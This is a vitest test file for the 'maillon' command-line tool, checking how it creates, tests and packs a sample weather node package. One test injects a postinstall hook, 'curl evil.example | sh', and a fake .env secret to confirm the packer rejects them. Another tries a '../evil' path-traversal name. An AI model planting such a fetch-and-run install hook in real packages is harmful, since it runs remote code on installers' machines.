import { mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createProgram } from './program.js'
import { ScriptedTerminal } from './testing/scripted-terminal.js'

const sdk = fileURLToPath(new URL('../../../libs/node-sdk', import.meta.url))
let folder = ''

async function maillon(...args: readonly string[]): Promise<{ readonly code: number; readonly out: string; readonly notes: string }> {
  const terminal = new ScriptedTerminal({})
  const code = await createProgram(terminal).run(['node', 'maillon', 'node', ...args])
  return { code, out: terminal.printed.join('\n'), notes: terminal.noted.join('\n') }
}

const edit = async (path: string, change: (text: string) => string) => writeFile(join(folder, path), change(await readFile(join(folder, path), 'utf8')))

beforeAll(async () => {
  folder = join(await mkdtemp(join(tmpdir(), 'maillon-node-')), 'maillon-node-weather')
  expect(await maillon('create', 'maillon-node-weather', folder)).toMatchObject({ code: 0 })
  // What `npm install` would do.
  await mkdir(join(folder, 'node_modules/@maillon'), { recursive: true })
  await symlink(sdk, join(folder, 'node_modules/@maillon/node-sdk'))
})
afterAll(() => rm(join(folder, '..'), { recursive: true, force: true }))

describe('maillon node', () => {
  it('begins a package whose node has less than 25 lines and keeps every promise', async () => {
    const lines = (await readFile(join(folder, 'src/greet.node.ts'), 'utf8')).trimEnd().split('\n')
    expect(lines.length).toBeLessThan(25)
    const { code, out } = await maillon('test', folder)
    expect({ code, out }).toMatchObject({ code: 0, out: expect.stringContaining(', 0 failed') })
    for (const title of ['loads in a process of its own', 'says everything about itself, in both languages', 'gives what the example', 'no write in a dry run', 'stops in the middle', 'streams a great many items', 'its own tests pass (1)']) expect(out).toContain(`${title}`)
  }, 60_000)

  it('packs what an installation takes, and shows it', async () => {
    const { code, out } = await maillon('pack', folder, '--json')
    expect(code).toBe(0)
    const facts = JSON.parse(out) as { file: string }
    expect(facts).toMatchObject({ name: 'maillon-node-weather', version: '0.1.0', files: ['LISEZMOI.md', 'README.md', 'dist/index.js', 'package.json'], nodes: ['weather.greet'], permissions: { hosts: [], memoryMiB: 256 } })
    expect(facts.file).toBe(join(folder, 'maillon-node-weather-0.1.0.tgz'))
  }, 60_000)

  it('packs no secret and no install script, and points at hosts that are not declared', async () => {
    await writeFile(join(folder, 'dist/.env'), 'TOKEN=x')
    expect(await maillon('pack', folder)).toMatchObject({ code: 1, notes: expect.stringContaining('dist/.env looks like a file of secrets') })
    await rm(join(folder, 'dist/.env'))
    await edit('src/index.ts', (text) => `${text}export const address = 'https://api.weather.example/v1'\n`)
    expect(await maillon('pack', folder)).toMatchObject({ code: 0, notes: expect.stringContaining('api.weather.example') })
    await edit('package.json', (text) => text.replace('"test":', '"postinstall": "curl evil.example | sh", "test":'))
    expect(await maillon('pack', folder)).toMatchObject({ code: 1, notes: expect.stringContaining('asks to run scripts') })
    await edit('package.json', (text) => text.replace('"postinstall": "curl evil.example | sh", ', ''))
  }, 60_000)

  it('says what a node lacks, and where its code does not compile', async () => {
    await edit('src/greet.node.ts', (text) => text.replace("title: { fr: 'Saluer', en: 'Greet' }", "title: { fr: '', en: 'Greet' }"))
    const { code, out } = await maillon('test', folder)
    expect({ code, says: out.includes('the title is missing in French') }).toEqual({ code: 1, says: true })
    await edit('src/greet.node.ts', (text) => `${text}}`)
    expect(await maillon('test', folder)).toMatchObject({ code: 2, notes: expect.stringContaining('src/greet.node.ts:') })
  }, 60_000)

  it('begins nothing where something is, or under a name that is none', async () => {
    expect(await maillon('create', 'maillon-node-weather', folder)).toMatchObject({ code: 2, notes: expect.stringContaining('isn’t empty') })
    expect(await maillon('create', '../evil', join(folder, 'x'))).toMatchObject({ code: 2 })
  })
})
